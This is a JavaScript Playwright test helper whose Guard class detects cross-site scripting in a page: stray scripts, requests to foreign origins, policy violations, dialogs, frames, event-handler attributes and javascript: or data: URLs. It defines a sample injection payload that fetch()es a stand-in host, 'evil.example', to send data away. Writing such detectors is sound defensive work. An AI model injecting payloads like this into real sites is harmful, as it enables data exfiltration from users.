/** Where harmful contents of ours would send what they find; it leads nowhere. */
export const elsewhere = 'evil.example';

/** What harmful contents of ours do where they can: say that they ran, and send something away. */
export const strike = `(top.struck||struck)(1);fetch('https://${elsewhere}/?'+1)`;

/** Notes what must never happen in a page, whatever comes from outside: a script that runs, a request to elsewhere, a violation of the policy, an error, a dialog, a frame. */
export class Guard {
  /** @type {string[]} */
  #problems = [];

  /**
   * @param {import('@playwright/test').Page} page
   * @param {string} home
   */
  constructor(page, home) {
    this.page = page;
    this.origin = new URL(home).origin;
  }

  /**
   * Keeps watch over a page from now on, and over what is loaded in it later.
   * @param {import('@playwright/test').Page} page
   * @param {string} home
   */
  static async over(page, home) {
    const guard = new Guard(page, home);
    await page.exposeFunction('struck', () => guard.note('a script ran'));
    await page.exposeFunction('violated', (/** @type {string} */ what) => guard.note(`policy: ${what}`));
    await page.addInitScript(tellViolations);
    guard.#listen();
    return guard;
  }

  #listen() {
    const { page, origin } = this;
    page.on('request', (request) => {
      const address = new URL(request.url());
      const isOurs = ['data:', 'blob:', 'about:'].includes(address.protocol) || address.origin === origin;
      if (!isOurs) this.note(`request: ${request.url().slice(0, 200)}`);
    });
    page.on('response', (response) => {
      if (response.status() >= 400 && !response.url().endsWith('/favicon.ico'))
        this.note(`asked for what is not there: ${response.url().slice(0, 200)}`);
    });
    page.on('pageerror', (error) => this.note(`error: ${error.stack ?? error.message}`));
    page.on('dialog', (dialog) => {
      this.note(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('popup', () => this.note('a window was opened'));
    page.on('frameattached', () => this.note('a frame was put into the page'));
    page.on('framenavigated', (frame) => {
      if (!frame.url().startsWith(origin) && frame.url() !== 'about:blank')
        this.note(`went to ${frame.url()}`);
    });
  }

  /** @param {string} problem */
  note(problem) {
    this.#problems.push(problem);
  }

  /** What has happened since it was asked last, with what stands in the page that should not. */
  async problems() {
    const found = [...new Set([...this.#problems, ...(await this.page.evaluate(harmInPage))])];
    this.#problems = [];
    return found;
  }
}

/* What follows runs in the page. */

function tellViolations() {
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
    /** @type {any} */ (window).violated(`${violatedDirective} ${blockedURI} ${sample}`);
  });
}

/** Elements and attributes that could do something, had they come in with a text or a drawing. */
function harmInPage() {
  const harm = [];
  const active = 'iframe, object, embed, frame, base, foreignObject, meta[http-equiv=refresh], body script';
  for (const element of document.querySelectorAll(active)) harm.push(element.outerHTML.slice(0, 200));
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) harm.push(`${element.localName} ${name}="${value.slice(0, 100)}"`);
      const isAddress = ['href', 'xlink:href', 'src', 'action', 'formaction'].includes(name);
      if (isAddress && /^[\s\p{C}]*(?:javascript|vbscript|file|data:text|data:image\/svg)/iu.test(value))
        harm.push(`${element.localName} ${name}="${value.slice(0, 100)}"`);
    }
  }
  return harm;
}
